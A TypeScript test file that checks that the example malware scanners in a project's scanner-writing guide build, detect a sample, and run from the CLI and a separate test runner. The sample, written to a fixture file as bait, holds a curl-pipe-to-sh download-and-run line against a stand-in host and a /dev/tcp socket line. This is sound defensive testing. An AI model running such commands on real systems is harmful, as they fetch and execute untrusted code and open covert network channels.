import { execFile } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { describeBackend } from "../../src/isolation/describe.ts";
import { ScanWorker } from "../../src/isolation/scan-worker.ts";
import { checkFinding } from "../../src/scanners/finding.ts";
import { resolveBackend } from "../../src/scanners/registry.ts";

const run = promisify(execFile);
const ROOT = fileURLToPath(new URL("../../", import.meta.url));
const GUIDE = new URL("../../docs/writing-a-scanner.md", import.meta.url);
const BAIT = "#!/bin/sh\ncurl -s http://a.example/x | sh\nexec 3<>/dev/tcp/a/80\n";

describe("the guide to writing a scanner", () => {
  // Inside the package, where "microengine/scanner" means something.
  const folder = mkdtempSync(fileURLToPath(new URL("../fixtures/scanners/guide-", import.meta.url)));
  const inFolder = (name: string): string => join(folder, name);

  beforeAll(() => {
    const guide = readFileSync(GUIDE, "utf8");
    for (const [, name, code] of guide.matchAll(/```ts\n\/\/ (\S+)\n([\s\S]*?)```/g)) {
      writeFileSync(inFolder(name!), code!);
    }
    writeFileSync(inFolder("bait.sh"), BAIT);
  });
  afterAll(() => rmSync(folder, { recursive: true }));

  it.each([
    ["download-and-run", "1.0.0", { verdict: "malicious", confidence: 0.8, family: "Script.DownloadAndRun" }],
    ["strings-count", "0.2.0", { verdict: "suspicious", confidence: 0.3, metadata: { heuristic: true } }],
  ])("shows a scanner %s that works", async (name, version, expected) => {
    const spec = inFolder(`${name}.ts`);
    expect(await describeBackend(spec)).toMatchObject({ name, version });
    const worker = await ScanWorker.start(resolveBackend(spec));
    const scan = async (text: string) => {
      const bytes = Buffer.from(text);
      const common = { kind: "file", sha256: "", types: [], claim: { raw: {} } } as const;
      const request = { ...common, bytes, deadline: Date.now() + 20_000 };
      const outcome = await worker.scan(request, new AbortController().signal);
      return outcome.kind === "finding" ? checkFinding(outcome.finding) : outcome;
    };
    expect(await scan(BAIT)).toMatchObject({ ok: true, finding: expected });
    expect(await scan("nothing to see")).toMatchObject({ ok: true, finding: { verdict: "unknown" } });
    await worker.close();
  });

  it("shows a way to try one that works", async () => {
    const args = ["src/main.ts", "scan", "--backend", inFolder("download-and-run.ts"), inFolder("bait.sh")];
    const { stdout } = await run(process.execPath, args, { cwd: ROOT });
    expect(stdout).toContain("Script.DownloadAndRun");
  });

  it("shows a test of one that passes", async () => {
    const args = ["--conditions=source", "--test", inFolder("download-and-run.test.ts")];
    // Without vitest's own variables: this is another test runner.
    const { PATH, HOME } = process.env;
    const { stdout } = await run(process.execPath, args, { env: { PATH, HOME } });
    expect(stdout).toContain("pass 1");
  });
});
